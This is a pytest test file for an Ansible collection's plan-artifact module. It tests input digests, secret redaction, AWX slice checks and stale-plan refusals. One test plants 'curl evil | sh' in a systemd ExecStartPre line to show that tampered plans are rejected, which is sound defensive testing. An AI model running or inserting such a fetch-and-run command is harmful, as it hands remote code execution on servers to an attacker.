"""The plan artifact's digests and checks (plugins/plugin_utils/site/artifact.py): hand-made sites, hand-written
expectations (digests computed here from JSON text written by hand, the messages a run must give)."""
from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from ansible_collections.metalserve.sglang.plugins.plugin_utils.site import artifact as art

COLLECTION = art.collection_record("0.2.0", {"data/gpus.yml": "aa" * 32, "plugins/plugin_utils/site/placement.py": "bb" * 32})
GROUPS = {"all": ["h1", "h2", "h3", "r1"], "servers": ["h1", "h2", "h3"], "rack_a": ["h1", "h2"], "rack_b": ["h3"],
          "routers": ["r1"], "ungrouped": []}
HOSTVARS = {
    "h1": {"sglang_gpu": "h200", "sglang_strategy": "low-latency", "sglang_hf_token": "hf_secret_one",
           "ansible_host": "10.0.0.1", "ansible_facts": {"default_ipv4": {"address": "10.0.0.1", "interface": "eth0"}}},
    "h2": {"sglang_gpu": "h200", "sglang_strategy": "low-latency", "ansible_host": "10.0.0.2"},
    "h3": {"sglang_gpu": "h200", "sglang_strategy": "high-throughput", "ansible_host": "10.0.0.3",
           "sglang_install_registry_password": "reg_secret_two"},
    "r1": {"sglang_role": "router", "sglang_router_workers_group": "servers"},
}
SITE = {"plans": {h: {"host": h, "role": "router" if h == "r1" else "server", "warnings": []} for h in HOSTVARS},
        "errors": {}, "monitoring": {"files": {}}}


def made() -> dict:
    return art.make(SITE, HOSTVARS, GROUPS, COLLECTION)


def sliced(hosts: list[str]) -> tuple[dict, dict]:
    """What an AWX/AAP slice holds (awx/main/models/inventory.py get_script_data): only its hosts, every group kept,
    each group's hosts cut to the slice."""
    return ({h: HOSTVARS[h] for h in hosts},
            {g: [h for h in members if h in hosts] for g, members in GROUPS.items()})


def test_digest_is_sha256_of_sorted_compact_json() -> None:
    text = '{"a":"é","b":[1,2,{"c":null}]}'  # written by hand: keys sorted, no spaces, UTF-8 kept
    assert art.digest({"b": [1, 2, {"c": None}], "a": "é"}) == "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def test_host_record_by_hand() -> None:
    record = art.host_record({"sglang_gpu": "h200", "ansible_facts": {"default_ipv4": {"address": "10.0.0.1"}}},
                             ["servers", "rack_a"])

    def sha(text: str) -> str:
        return "sha256:" + hashlib.sha256(text.encode()).hexdigest()

    assert record["vars"] == {"sglang_gpu": sha('"h200"')}
    assert record["facts"] == {"default_ipv4": sha('{"address":"10.0.0.1"}')}
    assert record["groups"] == ["rack_a", "servers"]
    body = ('{"facts":{"default_ipv4":"%s"},"groups":["rack_a","servers"],"vars":{"sglang_gpu":"%s"}}'
            % (sha('{"address":"10.0.0.1"}'), sha('"h200"')))
    assert record["digest"] == sha(body)


def test_memberships_leave_out_all() -> None:
    assert art.memberships(GROUPS) == {"h1": ["rack_a", "servers"], "h2": ["rack_a", "servers"],
                                       "h3": ["rack_b", "servers"], "r1": ["routers"]}


def test_secrets_count_by_presence_and_never_reach_the_artifact() -> None:
    one = art.host_record({"sglang_hf_token": "hf_a", "sglang_api_key": "k1", "sglang_install_registry_password": "p"}, [])
    other = art.host_record({"sglang_hf_token": "hf_b", "sglang_api_key": "k2", "sglang_install_registry_password": "q"},
                            [])
    assert one == other  # a rotated secret is not a changed plan (the plans hold placeholders)
    without = art.host_record({"sglang_api_key": "k1", "sglang_install_registry_password": "p"}, [])
    emptied = art.host_record({"sglang_hf_token": "", "sglang_api_key": "k1", "sglang_install_registry_password": "p"},
                              [])
    assert without["digest"] != one["digest"] and emptied["digest"] != one["digest"]
    assert art.changes(one, without) == ["sglang_hf_token unset now (set when the artifact was made)"]


def test_a_real_sites_artifact_holds_no_secret_value() -> None:
    """plan_site's own plans (not stubs) of a docker site with every secret the collection carries set: none of the
    values is anywhere in the artifact's text, and the artifact still applies (the review found the old test's
    plans were stubs that could not hold a secret)."""
    from ansible_collections.metalserve.sglang.plugins.plugin_utils.site.plan import plan_site  # noqa: PLC0415
    secrets = {"sglang_hf_token": "hf_SECRETvalueONE1234", "sglang_api_key": "sk-SECRETvalueTWO5678",
               "sglang_install_registry_password": "SECRETvalueTHREE9012"}
    hv = {f"n{i}": {"sglang_gpu": "h200", "sglang_quant": "fp8", "sglang_strategy": "low-latency",
                    "sglang_install_method": "docker", "sglang_image": "lmsysorg/sglang:v0.5.23-cu129",
                    "sglang_install_registry_username": "puller", "ansible_host": f"10.0.0.{i}", **secrets} for i in (1, 2)}
    groups = {"all": sorted(hv)}
    site = plan_site(hv, groups)
    assert site["errors"] == {}
    text = art.dump(art.make(site, hv, groups, COLLECTION))
    assert "<secret: sglang_hf_token>" in text or "hf_token" in text  # the plans do speak of the token
    for value in secrets.values():
        assert value not in text
    assert art.verify(json.loads(text), hv, groups, ["n1"], COLLECTION, whole_inventory=False) == []


def test_playbook_settings_are_not_inputs() -> None:
    base = art.host_record({"sglang_gpu": "h200"}, [])
    assert art.host_record({"sglang_gpu": "h200", "sglang_plan_artifact": "plans/x.json",
                            "sglang_render_dir": "/tmp/r"}, []) == base


def test_artifact_holds_plans_groups_and_one_digest_of_everything() -> None:
    a = made()
    assert a["kind"] == art.KIND and a["format"] == 1
    assert sorted(a["hosts"]) == ["h1", "h2", "h3", "r1"] and a["plans"] == SITE["plans"]
    assert a["groups"]["servers"] == ["h1", "h2", "h3"]
    expected = art.digest({"collection": COLLECTION["digest"], "hosts": {h: a["hosts"][h]["digest"] for h in a["hosts"]},
                           "groups": {g: sorted(m) for g, m in GROUPS.items()}})
    assert a["inputs_digest"] == expected
    assert art.dump(a) == art.dump(made())  # the same site writes the same bytes
    with pytest.raises(ValueError):
        art.make({**SITE, "errors": {"h1": ["broken"]}}, HOSTVARS, GROUPS, COLLECTION)


def test_each_awx_slice_verifies() -> None:
    a = made()
    hosts = sorted(HOSTVARS)
    for number in range(3):  # AWX: hosts ordered by name, every third from the slice's offset
        part = hosts[number::3]
        hv, groups = sliced(part)
        assert art.verify(a, hv, groups, part, COLLECTION, whole_inventory=False) == [], part


def test_changed_inputs_are_named_per_host_without_values() -> None:
    a = made()
    hv, groups = sliced(["h1", "h2", "h3"])
    hv = {**hv, "h1": {**hv["h1"], "sglang_strategy": "high-throughput"},
          "h2": {**hv["h2"], "sglang_strategy": "high-throughput"},
          "h3": {k: v for k, v in hv["h3"].items() if k != "ansible_host"} | {"sglang_extra_args": {"--x": 1}}}
    problems = art.verify(a, hv, groups, ["h1", "h2", "h3"], COLLECTION, whole_inventory=False)
    assert problems == ["h1, h2: sglang_strategy changed",
                        "h3: ansible_host unset now (set when the artifact was made); "
                        "sglang_extra_args set now (unset when the artifact was made)"]
    assert not any("high-throughput" in p for p in problems)


def test_facts_and_groups_count() -> None:
    a = made()
    hv, groups = sliced(["h1"])
    hv = {"h1": {**hv["h1"], "ansible_facts": {"default_ipv4": {"address": "10.0.0.9", "interface": "eth0"},
                                               "metalserve_fabric": {"devices": []}}}}
    groups = {**groups, "rack_a": [], "rack_b": ["h1"]}
    assert art.verify(a, hv, groups, ["h1"], COLLECTION, whole_inventory=False) == [
        "h1: ansible_facts.default_ipv4 changed; ansible_facts.metalserve_fabric set now (unset when the artifact was "
        "made); joined group(s) rack_b; left group(s) rack_a"]


def test_hosts_added_or_gone() -> None:
    a = made()
    hv = {**HOSTVARS, "h9": {"sglang_gpu": "h200"}}
    groups = {**GROUPS, "all": GROUPS["all"] + ["h9"], "servers": GROUPS["servers"] + ["h9"]}
    assert art.verify(a, hv, groups, ["h1", "h9"], COLLECTION, whole_inventory=False) == [
        "h9: not in the artifact (host(s) added since it was made)"]
    hv = {h: v for h, v in HOSTVARS.items() if h != "h3"}
    groups = {g: [h for h in m if h != "h3"] for g, m in GROUPS.items()}
    # --limit sees the whole inventory, so a host gone from it is seen; a slice cannot tell
    assert art.verify(a, hv, groups, ["h1"], COLLECTION, whole_inventory=True) == [
        "h3: in the artifact, gone from the inventory",
        "group(s) all, rack_b, servers: other members than when the artifact was made"]
    assert art.verify(a, hv, groups, ["h1"], COLLECTION, whole_inventory=False) == []


def test_a_limited_run_checks_the_peers_its_hosts_plans_read() -> None:
    """--limit r1 (a router): its workers come from h1..h3's plans, so a worker changed since the artifact was made
    is a stale plan for r1 too (the review found a moved worker applied with its old address)."""
    a = made()
    hv = {**HOSTVARS, "h2": {**HOSTVARS["h2"], "ansible_host": "10.0.0.22"}}
    assert art.verify(a, hv, GROUPS, ["r1"], COLLECTION, whole_inventory=True) == ["h2: ansible_host changed"]
    assert art.verify(a, hv, GROUPS, ["r1"], COLLECTION, whole_inventory=False) == []  # a slice sees r1 only
    # a peer whose cached facts expired is not a changed plan (a reviewer's case); the run's own hosts are judged whole
    expired = {**HOSTVARS, "h1": {k: v for k, v in HOSTVARS["h1"].items() if k != "ansible_facts"}}
    assert art.verify(a, expired, GROUPS, ["r1"], COLLECTION, whole_inventory=True) == []
    assert art.verify(a, expired, GROUPS, ["h1"], COLLECTION, whole_inventory=True) == [
        "h1: ansible_facts.default_ipv4 unset now (set when the artifact was made)"]


def test_another_collection_is_refused_with_what_differs() -> None:
    a = made()
    newer = art.collection_record("0.3.0", {"data/gpus.yml": "cc" * 32,
                                            "plugins/plugin_utils/site/placement.py": "bb" * 32,
                                            "data/new.yml": "dd" * 32})
    assert art.verify(a, HOSTVARS, GROUPS, ["h1"], newer, whole_inventory=False) == [
        "the collection: version 0.2.0 when the artifact was made, 0.3.0 now",
        "the collection: 2 file(s) the plan reads differ: data/gpus.yml, data/new.yml"]


def test_many_hosts_are_counted_not_listed() -> None:
    hv = {f"n{i:02d}": {"sglang_gpu": "h200"} for i in range(12)}
    groups = {"all": sorted(hv), "servers": sorted(hv)}
    a = art.make({"plans": {h: {} for h in hv}, "errors": {}}, hv, groups, COLLECTION)
    changed = {h: {"sglang_gpu": "b200"} for h in hv}
    assert art.verify(a, changed, groups, sorted(hv), COLLECTION, whole_inventory=False) == [
        "n00, n01, n02, n03, n04, n05, n06, n07 and 4 more: sglang_gpu changed"]


def test_which_runs_apply_the_artifact() -> None:
    every = ["h1", "h2", "h3", "r1"]
    assert art.partial_run(every, every, declared=False) is None          # the inventory is the site: plan it
    assert art.partial_run(every, ["h1"], declared=False) is None      # --limit sees every host: it plans the site
    assert art.partial_run(every, ["h1"], declared=True) == (
        "--limit with sglang_plan_artifact: the run covers 1 of the inventory's 4 host(s)")
    assert art.partial_run(["h1", "h2"], ["h1", "h2"], declared=True) == (
        "sglang_plan_artifact is set: the inventory's 2 host(s) apply the site's plan from it")


def test_load(tmp_path: Path) -> None:
    assert art.load(tmp_path / "none.json") is None
    path = tmp_path / "plan.json"
    path.write_text(art.dump(made()))
    assert art.load(path) == json.loads(path.read_text())
    path.write_text('{"plans": {}}')
    with pytest.raises(ValueError, match="not a plan artifact"):
        art.load(path)
    path.write_text(json.dumps({"kind": art.KIND, "format": 99}))
    with pytest.raises(ValueError, match="format 99; this collection reads format 1"):
        art.load(path)


def test_refusals_say_how_to_make_it() -> None:
    missing = art.refusal("/srv/plans/site.json", None, "sglang_plan_artifact is set: ...", [], "inventories/prod")
    assert missing.startswith("refused before anything changed: this run covers part of the site")
    assert "there is none at /srv/plans/site.json" in missing
    assert ("ansible-playbook metalserve.sglang.site -i inventories/prod --tags plan "
            "-e sglang_plan_artifact=/srv/plans/site.json") in missing
    stale = art.refusal("/srv/plans/site.json", made(), "--limit: ...", ["h1: sglang_gpu changed"], "inventories/prod")
    assert "made from 4 host(s)" in stale and "\n  - h1: sglang_gpu changed\n" in stale


def test_a_run_gets_its_inventorys_plans_and_the_site_monitoring() -> None:
    part = art.applied(made(), ["h3", "r1"])
    assert sorted(part["plans"]) == ["h3", "r1"] and part["monitoring"] == {"files": {}} and part["errors"] == {}


def test_this_collection_reads_what_the_plan_reads() -> None:
    import yaml

    root = Path(art.__file__).resolve().parents[3]
    version, files = art.collection_files(root)
    files = dict(files)
    assert version == yaml.safe_load((root / "galaxy.yml").read_text())["version"]
    assert files["data/gpus.yml"] == hashlib.sha256((root / "data" / "gpus.yml").read_bytes()).hexdigest()
    assert "plugins/plugin_utils/site/placement.py" in files and "roles/sglang_server/defaults/main.yml" in files
    assert "roles/sglang_install/meta/argument_specs.yml" in files
    # what runtime.converge_only() and the stages read besides: the roles' variable notes, the files a stage embeds
    assert "roles/sglang_server/meta/variables.yml" in files and "roles/nvidia_driver/files/metalserve-imex-channel0" in files
    assert not any("__pycache__" in p or p.startswith(("tests/", "playbooks/")) and not p.startswith("playbooks/templates/")
                   for p in files)


def test_dump_is_json_with_a_line_per_host() -> None:
    text = art.dump(made())
    assert json.loads(text) == json.loads(json.dumps(made()))
    lines = text.splitlines()
    assert lines[0] == "{" and lines[-1] == "}"
    assert sum(1 for line in lines if line.startswith('"h1":')) == 2  # its record under hosts, its plan under plans
    assert '"plans":{' in lines and '"hosts":{' in lines


def test_a_file_made_from_the_same_inputs_is_kept(tmp_path: Path) -> None:
    a = made()
    path = tmp_path / "plan.json"
    path.write_text(art.dump(a))
    assert art.text_made_from(path, a["inputs_digest"]) == path.read_text()
    assert art.text_made_from(path, "sha256:" + "0" * 64) is None
    assert art.text_made_from(tmp_path / "none.json", a["inputs_digest"]) is None
    path.write_text(json.dumps(a, indent=2))  # not a file dump() wrote: made again
    assert art.text_made_from(path, a["inputs_digest"]) is None


def test_a_plan_edited_after_the_artifact_was_made_is_refused() -> None:
    """The inputs' digests say nothing of the plans themselves: an ExecStartPre added to a committed plan line would
    be applied unchecked (the review's reproduction)."""
    a = json.loads(art.dump(made()))
    assert art.verify(a, HOSTVARS, GROUPS, ["h1"], COLLECTION, whole_inventory=False) == []
    a["plans"]["h1"] = {**a["plans"]["h1"], "unit": "ExecStartPre=/bin/sh -c 'curl evil | sh'"}
    assert art.verify(a, HOSTVARS, GROUPS, ["h1"], COLLECTION, whole_inventory=False) == [
        "its plans are not the ones it was made with (edited by hand or by a merge since): an edited plan skips every "
        "check"]


def test_link_local_addresses_are_not_plan_inputs() -> None:
    """Every veth docker creates brings an fe80:: address to the host's facts: a plan (and its artifact) that read
    them moved between two runs on the same inventory (the integration test saw it while molecule ran)."""
    from ansible_collections.metalserve.sglang.plugins.plugin_utils.site.inventory_vars import routable  # noqa: PLC0415
    assert routable(["10.0.0.1", "169.254.3.4", "fe80::1c2:3ff:fe04:5", "FE80::1%eth0", "fd00::5", "febf::1", "fec0::1"]) \
        == ["10.0.0.1", "fd00::5", "fec0::1"]
